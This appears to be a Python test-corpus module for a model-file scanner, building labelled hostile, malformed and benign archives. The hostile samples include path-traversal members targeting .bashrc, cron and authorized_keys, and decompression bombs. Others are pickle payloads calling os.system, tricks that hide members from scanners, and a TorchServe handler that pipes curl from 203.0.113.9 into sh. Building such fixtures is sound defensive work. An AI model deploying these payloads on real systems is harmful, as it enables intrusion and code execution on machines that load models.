"""Archives that escape, lie, grow or hide, and those that people ship models in."""

import bz2
import gzip
import io
import json
import lzma
import struct
import tarfile
import zlib

from tests.corpus.archive_writer import Entry, link, raw_zip, special, tar_file, zip_file
from tests.corpus.labelled import benign, hostile, malformed
from tests.corpus.sample import Sample

FAMILY = "container"
CALL = b"cposix\nsystem\n(S'echo inert'\ntR."
PLAIN_PICKLE = b"\x80\x02}q\x00X\x05\x00\x00\x00epochq\x01K\x03s."
KEY = b"ssh-ed25519 AAAA not a key\n"
HANDLER = b"""import os

os.system('curl -s http://203.0.113.9/x | sh')


def handle(data, context):
    return data
"""


def evil(name: str, path: str, content: bytes, note: str, source: str = "") -> Sample:
    """A hostile archive."""
    return hostile("container-" + name, FAMILY, {path: content}, note, source)


def zstd(body: bytes) -> bytes:
    """A Zstandard frame of one uncompressed block; `body` below 128 KiB."""
    block = (len(body) << 3 | 1).to_bytes(3, "little")
    return b"\x28\xb5\x2f\xfd\xa0" + struct.pack("<I", len(body)) + block + body


def nested_zip(levels: int, inner: bytes, copies: int) -> bytes:
    """Zips of `copies` of one another, `levels` deep."""
    for _ in range(levels):
        inner = zip_file({f"{number:02}.zip": inner for number in range(copies)})
    return inner


def grown(mebibytes: int) -> bytes:
    """Zeros as gzip members, one a MiB."""
    return gzip.compress(bytes(1 << 20), 9, mtime=0) * mebibytes


ZEROS = zip_file({"0.bin": bytes(16 << 20)})
KERNEL = Entry(name=b"00.bin", body=bytes(4 << 20), packed=True)
OVERLAPPING = raw_zip(
    [KERNEL, *(Entry(name=b"%05d.bin" % n, body=bytes(4 << 20), packed=True, at=0) for n in range(1, 400))]
)
LINK_ENTRY = Entry(name=b"weights", body=b"/etc", attributes=0o120777 << 16)
SEVEN_ZIP_CUT = b"7z\xbc\xaf\x27\x1c\0\x04" + struct.pack("<IQQI", 0, 4096, 80, 0)
ESCAPES = (
    evil(
        "zip-parent",
        "model.zip",
        zip_file({"weights.bin": bytes(32), "../../../.bashrc": b"echo inert\n"}),
        "A member that is written over the user's start-up file.",
        "zip slip",
    ),
    evil(
        "zip-absolute", "model.zip", zip_file({"/etc/cron.d/job": b"* * * * * root echo inert\n"}), "An absolute name."
    ),
    evil(
        "zip-windows",
        "model.zip",
        raw_zip([Entry(name=b"..\\..\\Startup\\run.bat", body=b"echo inert\r\n")]),
        "Climbs with the other system's separators.",
    ),
    evil(
        "zip-drive",
        "model.zip",
        raw_zip([Entry(name=b"C:\\Users\\Public\\run.bat", body=b"echo inert\r\n")]),
        "A drive.",
    ),
    evil(
        "zip-symlink",
        "model.zip",
        raw_zip([LINK_ENTRY, Entry(name=b"weights/cron.d/job", body=b"echo inert\n")]),
        "A link to /etc, then a member written through it.",
    ),
    evil(
        "zip-local-name",
        "model.zip",
        raw_zip([Entry(name=b"readme.txt", local_name=b"../../.ssh/authorized_keys", body=KEY)]),
        "The directory says readme.txt, the local header climbs: stream readers take the latter.",
        "CVE-2025-1944",
    ),
    evil(
        "tar-parent",
        "model.tar",
        tar_file([("weights.bin", bytes(32)), ("../../.ssh/authorized_keys", KEY)]),
        "A member that adds a key for logging in.",
        "CVE-2007-4559",
    ),
    evil(
        "tar-absolute",
        "model.tar",
        tar_file([("/etc/ld.so.preload", b"/tmp/x.so\n")]),
        "An absolute name.",
        "CVE-2007-4559",
    ),
    evil(
        "tar-symlink-then-write",
        "model.tar.gz",
        gzip.compress(tar_file([link("data", "/home/user"), ("data/.profile", b"echo inert\n")]), mtime=0),
        "A link to a home, then a file through it.",
        "CVE-2025-12060",
    ),
    evil(
        "tar-hardlink",
        "model.tar",
        tar_file([("a", b"x"), link("passwd", "../../../etc/passwd", hard=True)]),
        "A hard link to /etc/passwd: reading the member reads the machine's file.",
    ),
    evil(
        "tar-symlink-chain",
        "weights.tar.xz",
        lzma.compress(
            tar_file([link("a", "."), link("a/b", ".."), link("a/b/c", "../.."), ("a/b/c/etc/job", b"echo inert\n")])
        ),
        "Each link is short, their chain leaves the folder.",
        "CVE-2025-4517",
    ),
    evil(
        "tar-device",
        "model.tar",
        tar_file([special("disk", tarfile.BLKTYPE), special("queue", tarfile.FIFOTYPE)]),
        "A block device and a pipe, which have no place among weights.",
    ),
    evil(
        "nemo-tar-parent",
        "model.nemo",
        tar_file([("./model_config.yaml", b"name: asr\n"), ("../../bin/ffmpeg", b"#!/bin/sh\n")]),
        "A NeMo archive that replaces a program.",
        "CVE-2024-0129",
    ),
    evil(
        "mar-parent",
        "model.mar",
        zip_file(
            {
                "MAR-INF/MANIFEST.json": b'{"model": {"modelName": "m"}}',
                "../../../usr/lib/python3/site.py": b"print('inert')\n",
            }
        ),
        "A TorchServe archive that replaces a module.",
    ),
)
BOMBS = (
    evil(
        "zip-nested-bomb", "model.zip", nested_zip(3, ZEROS, 16), "64 GiB of zeros in zips in zips in zips.", "42.zip"
    ),
    evil(
        "zip-overlap-bomb",
        "model.zip",
        OVERLAPPING,
        "400 members that are all the same 4 MiB: 1.6 GiB.",
        "CVE-2019-13232",
    ),
    evil("gzip-twice-bomb", "weights.bin.gz", gzip.compress(grown(4096), mtime=0), "4 GiB of zeros, compressed twice."),
    evil("deep-zips", "model.zip", nested_zip(60, zip_file({"data.pkl": CALL}), 1), "A call sixty zips deep."),
    evil(
        "zip-size-bomb",
        "model.keras",
        zip_file({"config.json": b"{}", "metadata.json": b"{}", "assets/0": bytes(64 << 20)}),
        "64 MiB out of 64 KiB in a model of nothing: unpacked whole when it is loaded.",
    ),
)
ODD = (
    evil(
        "nemo-weights-twice",
        "model.nemo",
        tar_file([("./model_config.yaml", b"name: asr\n"), ("./w.ckpt", PLAIN_PICKLE), ("./w.ckpt", CALL)]),
        "Weights twice: a check of the first member passes, unpacking leaves the last.",
    ),
    evil("zstd-of-pickle", "model.pkl.zst", zstd(CALL), "A call in a Zstandard frame."),
    evil(
        "zstd-tar-parent",
        "model.tar.zst",
        zstd(tar_file([("../../.ssh/authorized_keys", KEY)])),
        "A tar that climbs, in a Zstandard frame.",
        "CVE-2007-4559",
    ),
    evil(
        "zip-duplicate-member",
        "model.zip",
        zip_file([("archive/data.pkl", PLAIN_PICKLE), ("archive/data.pkl", CALL)]),
        "A member twice: who checks the first loads the last.",
    ),
    evil(
        "zip-hidden-member",
        "model.zip",
        raw_zip([Entry(name=b"a.txt", body=b"nothing"), Entry(name=b"data.pkl", body=CALL)], total=1)[:],
        "The directory counts one member of two; the second holds a call.",
    ),
    evil(
        "zip-flagged-encrypted",
        "model.pt",
        raw_zip(
            [
                Entry(name=b"archive/data.pkl", body=CALL, flags=1, local_flags=0),
                Entry(name=b"archive/version", body=b"3\n"),
            ]
        ),
        "Called encrypted in the directory so that scanners skip it; torch loads it.",
        "CVE-2025-1945",
    ),
    evil(
        "zip-wrong-crc",
        "model.pt",
        raw_zip(
            [Entry(name=b"archive/data.pkl", body=CALL, crc=0xDEADBEEF), Entry(name=b"archive/version", body=b"3\n")]
        ),
        "A wrong checksum stops zipfile and not torch.",
        "CVE-2025-10156",
    ),
    evil(
        "zip-bidi-name",
        "model.zip",
        zip_file({"weights\u202egpj.exe": b"MZ" + bytes(60)}),
        "Shown as weightsexe.jpg: the name is turned round.",
    ),
    evil(
        "zip-tail-of-gif",
        "logo.gif",
        b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\4\0\0\0\0\0,\0\0\0\0\1\0\1\0\0\2\2D\1\0;"
        + zip_file({"archive/data.pkl": CALL, "archive/version": b"3\n"}),
        "A picture to the eye, a torch archive to torch.load.",
    ),
    evil("gzip-of-pickle", "model.bin", gzip.compress(CALL, mtime=0), "A call, compressed, under a plain name."),
    evil("xz-of-pickle", "model.pkl.xz", lzma.compress(CALL), "The same with xz, as joblib reads it."),
    evil("bz2-of-pickle", "model.pkl.bz2", bz2.compress(CALL), "The same with bzip2."),
    evil("zlib-of-pickle", "model.pkl.z", zlib.compress(CALL), "The same with zlib."),
    evil(
        "tar-of-zip-of-pickle",
        "release.tar.gz",
        gzip.compress(tar_file([("m/model.zip", zip_file({"w/data.pkl": CALL}))]), mtime=0),
        "A call in a zip in a tar in a gzip.",
    ),
    evil(
        "mar-handler",
        "model.mar",
        zip_file(
            {
                "MAR-INF/MANIFEST.json": json.dumps(
                    {
                        "model": {"modelName": "m", "handler": "handler.py", "serializedFile": "m.pt"},
                        "archiverVersion": "0.8.2",
                    }
                ).encode(),
                "handler.py": HANDLER,
            }
        ),
        "The handler runs a shell as soon as the server imports it.",
    ),
    evil(
        "nemo-target",
        "model.nemo",
        tar_file(
            [
                ("./model_config.yaml", b"name: asr\npreprocessor:\n  _target_: os.system\n  command: echo inert\n"),
                ("./model_weights.ckpt", zip_file({"archive/data.pkl": PLAIN_PICKLE, "archive/version": b"3\n"})),
            ]
        ),
        "The configuration makes Hydra call os.system.",
        "CVE-2025-23304",
    ),
    evil(
        "nemo-weights",
        "model.nemo",
        tar_file(
            [
                ("./model_config.yaml", b"name: asr\n"),
                ("./model_weights.ckpt", zip_file({"archive/data.pkl": CALL, "archive/version": b"3\n"})),
            ]
        ),
        "The weights of a NeMo archive are a call.",
    ),
)


def broken(name: str, path: str, content: bytes, note: str) -> Sample:
    """An archive that cannot be read to its end."""
    return malformed("container-" + name, FAMILY, {path: content}, note)


SMALL = zip_file({"a.txt": b"hello" * 100, "b.txt": b"world" * 100})
BROKEN = (
    broken("zstd-cut", "vocab.txt.zst", zstd(b"word\n" * 400)[:-300], "Cut off."),
    broken("zip-cut", "model.zip", SMALL[:-60], "The directory is cut off."),
    broken(
        "zip-encrypted",
        "model.zip",
        raw_zip([Entry(name=b"weights.bin", body=bytes(range(48)), flags=1)]),
        "Encrypted: nobody can say what is in it.",
    ),
    broken(
        "zip-method-99",
        "model.zip",
        raw_zip([Entry(name=b"weights.bin", body=bytes(range(48)), method=99)]),
        "A method of compression that is not read here.",
    ),
    broken("gzip-cut", "vectors.txt.gz", gzip.compress(b"the quick brown fox " * 400, mtime=0)[:-20], "Cut off."),
    broken(
        "gzip-crc",
        "vectors.txt.gz",
        gzip.compress(b"the quick brown fox " * 40, mtime=0)[:-8] + bytes(8),
        "The checksum and length at the end are wrong.",
    ),
    broken(
        "tar-cut", "model.tar", tar_file([("weights.bin", bytes(4000))])[:2000], "The member is longer than the file."
    ),
    broken("xz-cut", "vocab.txt.xz", lzma.compress(b"word\n" * 4000)[:-40], "Cut off."),
    broken("seven-zip-cut", "model.7z", SEVEN_ZIP_CUT, "A 7z whose directory lies behind the end."),
    broken(
        "rar-cut", "model.rar", b"Rar!\x1a\x07\x01\0" + b"\x33\x92\xb5\xe5\x0a\x01", "The beginning of a RAR archive."
    ),
    broken(
        "device-names",
        "model.zip",
        zip_file({"CON": b"x", "aux.txt": b"x", "NUL.bin": b"x"}),
        "Names of devices on Windows, where unpacking them fails or hangs.",
    ),
)


def good(name: str, files: dict[str, bytes], note: str) -> Sample:
    """An archive as people ship."""
    return benign("container-" + name, FAMILY, files, note)


def recorded(members: list[tuple[str, bytes]]) -> bytes:
    """A tar in the old GNU form."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.GNU_FORMAT) as archive:
        for name, body in members:
            info = tarfile.TarInfo(name)
            info.size = len(body)
            archive.addfile(info, io.BytesIO(body))
    return out.getvalue()


NEMO = b"""sample_rate: 16000
preprocessor:
  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
  features: 80
encoder:
  _target_: nemo.collections.asr.modules.ConformerEncoder
  n_layers: 2
optim:
  name: adamw
  lr: 0.001
target: nemo.collections.asr.models.EncDecCTCModelBPE
"""
VECTORS = "".join(f"word{n} 0.{n} 0.{n + 1}\n" for n in range(200)).encode()
BENIGN = (
    good("zstd-vectors", {"vectors.txt.zst": zstd(VECTORS)}, "Word vectors in a Zstandard frame."),
    good(
        "zip-corpus",
        {"texts.zip": zip_file({"texts/a.txt": b"One text.\n", "texts/b.txt": b"Another.\n"})},
        "Texts in a zip.",
    ),
    good(
        "zip-with-folders",
        {"data.zip": zip_file([("images/", b""), ("images/labels.csv", b"name,label\na,1\n")])},
        "Folders and a table.",
    ),
    good(
        "zip-dots-in-names",
        {"v1..2.zip": zip_file({"v1..2/notes...txt": b"notes\n", "..hidden.txt": b"x\n"})},
        "Names with dots that are no parents.",
    ),
    good(
        "tar-gz-dataset",
        {"train.tar.gz": gzip.compress(tar_file([("train/0.txt", b"zero\n"), ("train/1.txt", b"one\n")]), mtime=0)},
        "A data set.",
    ),
    good(
        "tar-gnu-long-name",
        {"w.tar": recorded([("layers/" + "deep/" * 40 + "w.txt", b"1 2 3\n")])},
        "A path over 200 characters.",
    ),
    good(
        "tar-inner-link",
        {"m.tar": tar_file([("v2/weights.txt", b"1\n"), link("latest", "v2")])},
        "A link to a folder beside it.",
    ),
    good(
        "tar-webdataset",
        {
            "shard-000.tar": tar_file(
                [
                    (f"{n:05}.{kind}", body)
                    for n in range(3)
                    for kind, body in (("json", b'{"caption": "a cat"}'), ("txt", b"a cat"))
                ]
            )
        },
        "A shard of a web dataset.",
    ),
    good("gzip-vectors", {"vectors.txt.gz": gzip.compress(VECTORS, mtime=0)}, "Word vectors."),
    good("xz-vectors", {"vectors.txt.xz": lzma.compress(VECTORS)}, "The same with xz."),
    good("bz2-vectors", {"vectors.txt.bz2": bz2.compress(VECTORS)}, "The same with bzip2."),
    good(
        "gzip-zeros",
        {
            "mask.npy.gz": gzip.compress(
                b"\x93NUMPY\x01\0v\0"
                + b"{'descr': '|u1', 'fortran_order': False, 'shape': (1048576,), }".ljust(117)
                + b"\n"
                + bytes(1 << 20),
                mtime=0,
            )
        },
        "A mask of zeros, which compresses a thousandfold.",
    ),
    good(
        "nemo",
        {
            "asr.nemo": tar_file(
                [
                    ("./model_config.yaml", NEMO),
                    ("./tokenizer.model.txt", b"<unk>\nthe\n"),
                    (
                        "./model_weights.ckpt",
                        zip_file({"archive/data.pkl": PLAIN_PICKLE, "archive/version": b"3\n"}, packed=False),
                    ),
                ]
            ),
        },
        "A NeMo archive: configuration, vocabulary, weights.",
    ),
    good(
        "mar",
        {
            "model.mar": zip_file(
                {
                    "MAR-INF/MANIFEST.json": json.dumps(
                        {
                            "createdOn": "01/02/2025",
                            "runtime": "python",
                            "model": {"modelName": "m", "handler": "image_classifier", "modelVersion": "1.0"},
                        }
                    ).encode(),
                    "index_to_name.json": b'{"0": "cat", "1": "dog"}',
                }
            )
        },
        "A TorchServe archive with a handler of the server's own.",
    ),
    good(
        "zip-comment",
        {"kit.zip": zip_file({"a.txt": b"x\n"}, comment=b"packed for release 1.2")},
        "A comment at the end.",
    ),
    good("empty-zip", {"empty.zip": zip_file({})}, "No members at all."),
)
SAMPLES = (*ESCAPES, *BOMBS, *ODD, *BROKEN, *BENIGN)
